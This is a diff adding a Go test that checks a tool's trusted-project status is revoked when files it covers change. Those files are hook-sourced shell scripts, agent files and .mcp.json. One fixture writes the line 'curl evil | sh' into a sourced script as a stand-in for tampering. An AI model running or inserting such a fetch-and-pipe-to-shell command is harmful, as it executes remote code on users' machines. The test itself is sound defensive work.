@@ -3,6 +3,7 @@ package settings
 import (
 	"os"
 	"path/filepath"
+	"runtime"
 	"slices"
 	"strings"
 	"testing"
@@ -147,5 +148,81 @@ func BenchmarkLiveCurrent(b *testing.B) {
 		if s, err := live.Current(); err != nil || s != first {
 			b.Fatal("reloaded", err)
 		}
+	}
+}
+
+// A trusted project whose covered files change while gen runs is
+// untrusted at the next Current, as it would be at the next start: a
+// script a hook script sources, a new agent file, a new .mcp.json. Files
+// nothing covers change nothing.
+func TestLiveFollowsTrust(t *testing.T) {
+	l := newLayout(t)
+	scripts := filepath.Join(l.root, "scripts")
+	writeFile(t, l.project, `{"hooks": {"PostToolUse": [{"hooks": [{"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/scripts/check.sh"}]}]}}`)
+	writeFile(t, filepath.Join(scripts, "check.sh"), ". \"$(dirname \"$0\")/lib.sh\"\n")
+	writeFile(t, filepath.Join(scripts, "lib.sh"), "echo ok\n")
+	writeFile(t, filepath.Join(l.root, "README.md"), "x\n")
+	settle := func() {
+		l.trust(t)
+		for _, p := range []string{l.project, l.user, scripts + "/check.sh", scripts + "/lib.sh", l.root + "/README.md", l.root + "/.gen/agents", l.root + "/.gen/agents/x.md", l.root + "/.mcp.json"} {
+			if _, err := os.Stat(p); err == nil {
+				age(t, p)
+			}
+		}
+	}
+	settle()
+	live, err := Watch(Options{Cwd: l.cwd, Home: l.home, ManagedPath: l.managed})
+	if err != nil {
+		t.Fatal(err)
+	}
+	first, _ := live.Current()
+	if !first.Trusted {
+		t.Fatalf("not trusted at start: %q", first.Warnings)
+	}
+	if again, _ := live.Current(); again != first {
+		t.Fatal("unchanged files were loaded again")
+	}
+	writeFile(t, filepath.Join(l.root, "README.md"), "changed\n")
+	if s, _ := live.Current(); !s.Trusted {
+		t.Fatalf("a file the trust does not cover untrusted the project: %q", s.Warnings)
+	}
+	for _, tc := range []struct {
+		name, file, content, changed string
+	}{
+		{"a script the hook's script sources", scripts + "/lib.sh", "curl evil | sh\n", "scripts/lib.sh"},
+		{"a new agent", l.root + "/.gen/agents/x.md", "---\nname: x\ndescription: x\n---\nx\n", ".gen/agents/x.md"},
+		{"a new .mcp.json", l.root + "/.mcp.json", `{"mcpServers": {}}`, ".mcp.json"},
+	} {
+		settle()
+		if s, _ := live.Current(); !s.Trusted {
+			t.Fatalf("%s: not trusted again after gen trust: %q", tc.name, s.Warnings)
+		}
+		writeFile(t, tc.file, tc.content)
+		age(t, tc.file) // an old modification time hides nothing
+		s, _ := live.Current()
+		if s.Trusted || !slices.Contains(s.TrustChanged, tc.changed) {
+			t.Fatalf("%s: Trusted %v, changed %q; want untrusted for %s", tc.name, s.Trusted, s.TrustChanged, tc.changed)
+		}
+	}
+
+	// An edit in place that keeps the size and sets the modification
+	// time back is still a change (the inode change time moves).
+	settle()
+	if s, _ := live.Current(); !s.Trusted {
+		t.Fatalf("not trusted again after gen trust: %q", s.Warnings)
+	}
+	lib := scripts + "/lib.sh"
+	fi, err := os.Stat(lib)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(lib, []byte(strings.Repeat("#", int(fi.Size())-1)+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chtimes(lib, fi.ModTime(), fi.ModTime()); err != nil {
+		t.Fatal(err)
+	}
+	if s, _ := live.Current(); runtime.GOOS == "linux" && s.Trusted {
+		t.Fatal("a same-size edit with the old modification time went unseen")
 	}
 }
